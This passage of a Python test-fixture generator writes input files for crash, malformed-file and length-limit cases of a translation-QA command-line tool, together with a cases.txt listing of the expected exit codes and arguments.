             {"m.tmx": tmx_external.replace(b'<tuv xml:lang="en"><seg>Yoon Suk-yue</seg>',
                                            b'<tuv xml:lang="en"><seg>Yoon Suk Yeol</seg></tuv><tuv xml:lang="en-GB">'
                                            b'<seg>Yoon Suk-yue</seg>')},
             exits=CHECKED, expectations=(finds("Yoon Suk-yue"),)),
        Case("jsonl-terms-million-character-form", check("t.jsonl"),
             {"t.jsonl": jsonl({"id": "t", "source": "尹锡悦说。", "target": "Yoon said.",
                                "terms": {"尹锡悦": ["Y" * 1_000_000]}})}, error=r"t\.jsonl:1: .*at most 1,000"),
        Case("csv-glossary-bad-row", check("a.txt", "--glossary", "g.csv"),
             {"g.csv": text('en,zh-Hans,status\nforced labor,强制劳动,preferred\n"unclosed,x\n')},
             error=r"g\.csv(:\d+)?: "),
    ]


BASE_FILES = {"g.yaml": text(GLOSSARY), "a.txt": text(ARTICLE)}
CASES: tuple[Case, ...] = (*_security(), *_crashes_and_hangs(), *_bad_configs_and_files(), *_keep_going(),
                           *_text_oddities(), *_bilingual())


def write_case(case: Case, folder: Path) -> None:
    """The case's inputs in `folder` (created), with an empty `out/` for the reports it may write."""
    (folder / "out").mkdir(parents=True, exist_ok=True)
    for name, content in {**BASE_FILES, **case.files}.items():
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(content)
    if case.setup is not None:
        case.setup(folder)


def main(argv: list[str]) -> int:
    if len(argv) != 1:
        print("usage: generate.py DIR", file=sys.stderr)
        return 2
    root = Path(argv[0])
    listing = []
    for case in CASES:
        write_case(case, root / case.name)
        listing.append(f"{case.name}\texit {sorted(case.exits)}\tmtqa {' '.join(map(repr, case.args))}")
    (root / "cases.txt").write_text("\n".join(listing) + "\n", encoding="utf-8")
    print(f"{len(CASES)} cases in {root}")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
